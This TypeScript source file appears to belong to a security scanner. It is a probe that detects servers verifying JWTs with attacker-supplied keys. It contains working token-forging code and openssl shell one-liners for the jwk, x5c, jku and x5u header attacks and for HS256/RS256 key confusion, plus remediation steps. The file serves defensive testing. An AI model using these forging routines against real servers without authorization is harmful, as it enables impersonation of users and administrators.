import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject, sign } from 'node:crypto'
import type { JsonObject } from '../../../../shared/json.ts'
import { activeProbe, type ProbeContext } from '../../../model/probe.ts'
import { isJsonObject, readJsonObject } from '../../../read/formats/json.ts'
import { decodeJwt, encodeJwtPart, type Jwt, joinJwt, splitJwt } from '../../../read/formats/jwt.ts'
import { issueSelfSigned, type KeyPair, writePem } from '../../../read/formats/selfSignedCertificate.ts'
import { type ForgedKey, tryForgedKeys } from './_forgedKeys.ts'
import { verificationVariants } from './_tokenFix.ts'
import type { OwnToken } from './_tokenPlaces.ts'

const keySetPaths = ['/.well-known/jwks.json', '/jwks.json', '/api/auth/jwks', '/oauth/jwks'] as const
const keySetBytesMax = 64 * 1024
const publicKeysMax = 3
const keyBits = 2048

type Context = ProbeContext<'target' | 'responses'>

/**
 * Finds servers that verify a JSON Web Token (JWT) with a key that an attacker has.
 *
 * Certain: the scan's own claims got the response of the valid token, and the same token with another signature was
 * refused. The key is in the header (`jwk`, `x5c`), at a callback URL in the header (`jku`, `x5u`), or is the public
 * key of the server, used as HMAC secret. Fires on `verify(token, header.jwk)`; not on a fixed key set, nor on servers that verify
 * nothing, which are `auth.jwt-none`. Sources: RFC 8725, 2.1 and 3.10; RFC 7515, 4.1; CVE-2016-5431.
 */
export default activeProbe({
  id: 'auth.jwt-untrusted-key',
  cwe: 347,
  severity: 'critical',
  owner: 'code',
  intensity: 'safe',
  effect: 'reads',
  budget: { perScan: 50, perEntry: 0 },
  title: 'JWT verified with a key of the attacker',
  why: 'Anyone can sign in as any user or administrator by forging a token. The server takes the key or the algorithm from the token, so that an attacker chooses a key that they have.',
  fix: {
    steps: `1. Verify with keys from your configuration, or from the key set (JWKS) of an issuer that the configuration names: \`createRemoteJWKSet(new URL(ISSUER + '/.well-known/jwks.json'))\`. Remove code that reads \`jwk\`, \`jku\`, \`x5u\` or \`x5c\` of a token.
2. Specify one algorithm for each key (\`algorithms: ['RS256']\`). With a public key as secret, \`HS256\` accepts what everyone can sign.
3. Update the JWT library: current ones refuse a public key for HMAC.
4. Assume that tokens were forged: search the logs for accounts that acted without having signed in.`,
    variants: verificationVariants,
    risk: 'Tokens of issuers that the configuration does not name are refused, and their users have to sign in again.',
    verify:
      'Run the `curl` command from the evidence with your own session: the response is 401. The unchanged token still works.',
  },
  references: [
    'https://www.rfc-editor.org/rfc/rfc8725#section-3.10',
    'https://www.rfc-editor.org/rfc/rfc7515#section-4.1',
    'https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/06-Session_Management_Testing/10-Testing_JSON_Web_Tokens',
  ],
  needs: ['target', 'responses'],
  skipReason: ({ accounts }) =>
    accounts.tokens.some(({ text }) => readSigned(text) !== null)
      ? null
      : 'not applicable: the sign-in of the scan contains no signed JSON Web Token (JWT)',
  run: (context) => tryForgedKeys(context, (token) => forge(context, token)),
})

type Signed = { readonly jwt: Jwt; readonly payload: string }

function readSigned(token: string): Signed | null {
  const [parts, jwt] = [splitJwt(token), decodeJwt(token)]
  return parts === null || jwt === null || parts.signature.length < 8 ? null : { jwt, payload: parts.payload }
}

async function forge(context: Context, { text }: OwnToken): Promise<readonly ForgedKey[]> {
  const signed = readSigned(text)
  if (signed === null) return []
  const isSymmetric = String(signed.jwt.header.alg).startsWith('HS')
  const publicKeys = isSymmetric ? [] : await loadPublicKeys(context)
  return [...publicKeys.flatMap((key) => confuse(signed, key)), ...(await embed(context, signed))]
}

type Named = { readonly about: string; readonly header: JsonObject; readonly command: string | null }

async function embed({ callbacks, random }: Context, signed: Signed): Promise<readonly ForgedKey[]> {
  const [own, other] = [makeKeys(), makeKeys()]
  const kid = random.word()
  const jwk = { ...own.publicKey.export({ format: 'jwk' }), alg: 'RS256', use: 'sig', kid }
  const certificate = issueSelfSigned(own, kid)
  const inside: readonly Named[] = [
    { about: 'with its own key in the header (jwk)', header: { jwk: { ...jwk } }, command: embeddedCommand },
    {
      about: 'with its own certificate in the header (x5c)',
      header: { x5c: [certificate.toString('base64')] },
      command: certifiedCommand,
    },
  ]
  const documents = [
    { name: 'jku', thing: 'key', text: JSON.stringify({ keys: [jwk] }) },
    { name: 'x5u', thing: 'certificate', text: writePem(certificate) },
  ]
  const outside = documents.map(async ({ name, thing, text }): Promise<readonly Named[]> => {
    const callback = await callbacks?.open({ text })
    const about = `with the URL of its own ${thing} in the header (${name})`
    return callback == null ? [] : [{ about, header: { [name]: callback.url, kid }, command: null }]
  })
  const named = [...inside, ...(await Promise.all(outside)).flat()]
  return named.map(({ about, header, command }) => {
    const start = encodeJwtPart(JSON.stringify({ alg: 'RS256', typ: 'JWT', ...header }))
    const text = (key: KeyObject) => {
      const signature = sign('sha256', Buffer.from(`${start}.${signed.payload}`), key).toString('base64url')
      return joinJwt({ header: start, payload: signed.payload, signature })
    }
    const forged = text(own.privateKey)
    // The claims stay out of reports, so the signature holds for this session.
    const same = `${start}.$(printf %s "$TOKEN" | cut -d. -f2).${splitJwt(forged)?.signature ?? ''}`
    return { about, text: forged, control: text(other.privateKey), command: command ?? same }
  })
}

function makeKeys(): KeyPair {
  return generateKeyPairSync('rsa', { modulusLength: keyBits })
}

/** The key as libraries read it from a file: with and without a line break at its end. */
function confuse({ jwt, payload }: Signed, key: KeyObject): readonly ForgedKey[] {
  const pem = String(key.export({ type: 'spki', format: 'pem' }))
  const header = encodeJwtPart(JSON.stringify({ ...jwt.header, alg: 'HS256' }))
  return [pem, pem.trimEnd()].map((secret) => {
    const mac = (by: string) => createHmac('sha256', by).update(`${header}.${payload}`).digest('base64url')
    const claims = '$(printf %s "$TOKEN" | cut -d. -f2)'
    const hex = Buffer.from(secret).toString('hex')
    const hmac = `openssl dgst -sha256 -mac HMAC -macopt hexkey:${hex} -binary | openssl base64 -A | tr '+/' '-_' | tr -d '='`
    return {
      about: 'signed with the public key of the server as HMAC secret (HS256)',
      text: joinJwt({ header, payload, signature: mac(secret) }),
      control: joinJwt({ header, payload, signature: mac('scanward-control') }),
      command: `${header}.${claims}.$(printf %s "${header}.${claims}" | ${hmac})`,
    }
  })
}

/** Source: RFC 7517, 5. */
async function loadPublicKeys({ artifacts, send }: Context): Promise<readonly KeyObject[]> {
  for (const path of keySetPaths) {
    const url = `${artifacts.target.origin}${path}`
    const response = await send({ url, as: 'anonymous', bodyBytesMax: keySetBytesMax })
    const set =
      response.ok && response.exchange.status === 200 ? readJsonObject(response.exchange.body) : null
    const keys = Array.isArray(set?.keys) ? set.keys.slice(0, publicKeysMax) : []
    const read = keys.flatMap((key) => (isJsonObject(key) ? readKey(key) : []))
    if (read.length > 0) return read
  }
  return []
}

function readKey(jwk: Readonly<Record<string, unknown>>): readonly KeyObject[] {
  try {
    return [createPublicKey({ key: { ...jwk }, format: 'jwk' })]
  } catch {
    return [] // Another kind of key.
  }
}

const shellKey = `K=$(mktemp); openssl genrsa -out "$K" ${keyBits} 2>/dev/null; b() { openssl base64 -A | tr '+/' '-_' | tr -d '='; }`
const shellToken = `P=$(printf %s "$TOKEN" | cut -d. -f2); printf %s "$H.$P.$(printf %s "$H.$P" | openssl dgst -sha256 -sign "$K" -binary | b)"`
/** The modulus lies at a fixed place of the DER form: RFC 8017, A.1.1. */
const shellModulus = `N=$(openssl rsa -in "$K" -pubout -outform DER 2>/dev/null | tail -c 261 | head -c 256 | b)`
const embeddedCommand = `$(${shellKey}; ${shellModulus}; H=$(printf '{"alg":"RS256","typ":"JWT","jwk":{"kty":"RSA","e":"AQAB","n":"%s"}}' "$N" | b); ${shellToken})`
const certifiedCommand = `$(${shellKey}; C=$(openssl req -x509 -new -key "$K" -subj /CN=scan -outform DER | openssl base64 -A); H=$(printf '{"alg":"RS256","typ":"JWT","x5c":["%s"]}' "$C" | b); ${shellToken})`
